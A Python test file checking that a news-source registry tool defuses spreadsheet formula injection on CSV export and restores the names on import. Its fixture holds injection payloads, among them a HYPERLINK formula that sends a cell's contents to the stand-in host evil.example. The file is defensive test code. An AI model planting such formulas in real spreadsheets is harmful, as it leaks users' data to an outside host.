"""The registry file that ``sources export`` writes and ``sources import`` reads."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from rescuewatch.assess.registry import parse
from tests.conftest import Invoker

#: Source names as a report's "Source:" line may give them, each with its expected cell.
NAMES = {
    '=HYPERLINK("http://evil.example/?"&A1,"Reuters")':
        '\'=HYPERLINK("http://evil.example/?"&A1,"Reuters")',
    "+1 Agency": "'+1 Agency",
    "-Agency": "'-Agency",
    "@agency": "'@agency",
    "\tTabbed": "'\tTabbed",
    "'=1": "''=1",  # its own quote kept: import takes one off
    "'Ayn News": "'Ayn News",  # no formula: as it is
    "Plain News": "Plain News",
}


def test_a_formula_in_a_source_name_is_defused_and_imported_back(tmp_path: Path) -> None:
    exported = tmp_path / "sources.csv"
    rw = Invoker(f"sqlite:///{tmp_path / 'a.db'}")
    for n, name in enumerate(NAMES):
        result = rw("sources", "set", f"source{n}.example", "--name", name, "--reason", "seen")
        assert result.exit_code == 0, result.output
    assert rw("sources", "export", "-o", str(exported)).exit_code == 0
    cells = {row["key"]: row["name"]
             for row in csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8")))}
    assert [cells[f"source{n}.example"] for n in range(len(NAMES))] == list(NAMES.values())

    again = Invoker(f"sqlite:///{tmp_path / 'b.db'}")
    result = again("sources", "import", str(exported), "--reason", "registry v1")
    assert result.exit_code == 0, result.output
    names = {s["key"]: s["name"] for s in json.loads(again("sources", "list", "--json").output)}
    assert [names[f"source{n}.example"] for n in range(len(NAMES))] == list(NAMES)


@pytest.mark.parametrize(("cell", "value"), [
    ("'=SUM(A1)", "=SUM(A1)"), ("''=1", "'=1"), ("'Ayn", "'Ayn"), ("'", "'"), ("=1", "=1"),
])
def test_import_takes_off_only_the_quote_export_puts(cell: str, value: str) -> None:
    (entry,) = parse(f"key,name\nk,{cell}\n", "sources.csv")
    assert entry.name == value
